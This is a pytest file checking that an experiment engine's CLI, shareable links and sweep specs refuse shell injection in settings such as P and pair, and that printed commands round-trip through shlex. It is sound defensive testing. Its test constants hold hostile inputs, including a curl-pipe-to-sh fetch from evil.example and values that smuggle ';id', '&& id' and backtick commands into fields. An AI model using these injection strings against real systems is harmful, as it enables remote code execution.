"""Issue 22, finding 1: no setting can carry a shell command into a printed command line.

P and pair are digits and commas in every world; a setting the run's world or labeling does not
read is refused where a user gives it (CLI, link, sweep); every printed command is an argv list
joined with shlex, so shlex.split gives back exactly that argv.
"""

from __future__ import annotations

import shlex

import pytest

from engine.cli import main
from engine.config import Config, ConfigError, from_dict
from engine.reads import read_diff, refuse_unread
from engine.sweep import SweepSpec
from engine.sweep.spec import check
from ui.compare_view import cli_argv, cli_command
from ui.state import AppState, parse_params, url_params

PWN = "1 $(curl -s http://evil.example/x.sh | sh)"
PAIR_PWN = "0,1; touch /tmp/pwned"
TINY = {"n": 600, "n_test": 200, "d": 40, "D": 20, "m": 8, "T": 6, "batch": 100}


def run_cli(args, capsys):
    try:
        code = main(["run", "--quiet", *args])
    except SystemExit as exc:
        code = exc.code
    return code, capsys.readouterr().err


@pytest.mark.parametrize("args, name", [
    (["--preset", "quick-parity", "--set", "P=1 $(touch x)"], "P"),  # the case
    (["--set", "labeling=custom", "--set", "k=3", "--set", f"P={PWN}"], "P"),
    (["--set", "labeling=custom", "--set", "k=3", "--set", "P=1,3;id"], "P"),
    (["--set", f"pair={PAIR_PWN}"], "pair"),
    (["--set", "pair=1,2"], "pair"),  # well-formed, but sparse coding reads no pair
    (["--set", "t1=3"], "t1"),  # only the interval labeling reads t1
    (["--set", "sigma_r=2"], "sigma_r"),  # a mixture-of-Gaussians setting
    (["--set", "theory=thm26"], "theory"),
])
def test_cli_refuses_free_text_and_unread_settings(args, name, capsys):
    code, err = run_cli(args, capsys)
    assert code == 2, err
    assert err.startswith(f"error: {name}=") and err.count("\n") == 1, err


def test_the_refusal_says_why():
    cfg = Config()
    with pytest.raises(ConfigError, match="only read with labeling=custom"):
        refuse_unread(cfg.replace(P="1,3"), ["P"])
    with pytest.raises(ConfigError, match="only read by scenario=real"):
        refuse_unread(cfg, ["pair"])
    with pytest.raises(ConfigError, match="comma-separated integers"):
        from_dict({"P": "1,3 && id"})
    with pytest.raises(ConfigError, match="two class indices"):
        from_dict({"pair": "0,1`id`"})


def test_a_link_with_hostile_p_and_pair_keeps_neither():
    cfg, _, warnings = parse_params({**{k: str(v) for k, v in TINY.items()}, "k": "3",
                                     "P": PWN, "pair": PAIR_PWN})
    assert (cfg.P, cfg.pair) == (Config().P, Config().pair)
    assert sum(w.startswith(("P=", "pair=")) for w in warnings) == 2, warnings
    cfg, _, warnings = parse_params({"labeling": "custom", "k": "3", "P": "1,3",
                                     "pair": "0,1"})  # pair is well-formed but unread here
    assert cfg.P == "1,3" and len(warnings) == 1 and "scenario=real" in warnings[0]


def test_links_and_commands_leave_unread_settings_out():
    cfg = Config(**TINY).replace(labeling="custom", k=3, P="1,3").replace(labeling="interval",
                                                                           t1=1, t2=2)
    assert "P" not in read_diff(cfg) and "P" not in url_params(cfg)
    assert {"t1", "t2"} <= set(url_params(cfg))


@pytest.mark.parametrize("changes", [
    dict(labeling="custom", k=3, P="1, 3"),
    dict(scenario="real", d=64, D=1, k=1, pair="3 ,8", schedule="standard", n=200, n_test=100),
    dict(labeling="interval", k=5, t1=1, t2=3, p_a=0.5),
])
def test_every_printed_command_splits_into_the_argv_the_page_means(changes):
    state = AppState()
    state.cfg = Config(**TINY).replace(**changes)
    state.compare.methods = ("network", "ntk")
    text = cli_command(state)
    assert shlex.split(text) == cli_argv(state)
    sets = dict(a.split("=", 1) for a in cli_argv(state)[5::2] if "=" in a)
    # the printed command runs the page's setting: every setting the run reads is the page's
    # (one it does not read, like D on real data, is left out of the command: engine.reads)
    assert read_diff(from_dict(sets)) == read_diff(state.cfg)


def test_sweeps_refuse_unread_settings_fixed_or_swept():
    fixed = SweepSpec("quick-parity", {**TINY, "pair": "0,1"}, (("k", (1, 3)),), (), 1, 0,
                      ("network",))
    with pytest.raises(ConfigError, match="pair.*scenario=real"):
        check(fixed, limits=False)
    swept = SweepSpec("quick-parity", TINY, (("t1", (1, 2)),), (), 1, 0, ("network",))
    with pytest.raises(ConfigError, match="t1.*labeling=interval"):
        check(swept, limits=False)
